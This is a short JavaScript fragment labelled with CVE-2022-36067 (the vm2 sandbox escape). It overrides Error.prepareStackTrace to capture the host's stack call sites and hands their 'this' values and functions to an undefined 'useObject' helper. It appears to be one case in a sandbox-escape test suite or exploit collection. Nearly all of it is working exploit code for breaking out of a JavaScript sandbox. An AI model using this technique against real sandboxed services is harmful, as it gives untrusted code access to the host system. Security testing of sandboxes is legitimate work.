// GHSA-mrgp-mrhc-5jrq CVE-2022-36067
// An own Error.prepareStackTrace receives call sites of the host.
const sites = [];
globalThis.Error = { __proto__: Error, prepareStackTrace: (_, frames) => frames };
try { const e = new TypeError('x'); Error.prepareStackTrace = (_, frames) => { sites.push(...frames); return ''; }; void e.stack; } catch {}
for (const site of sites) { try { await useObject(site.getThis()); await useObject(site.getFunction()); } catch {} }
return found;
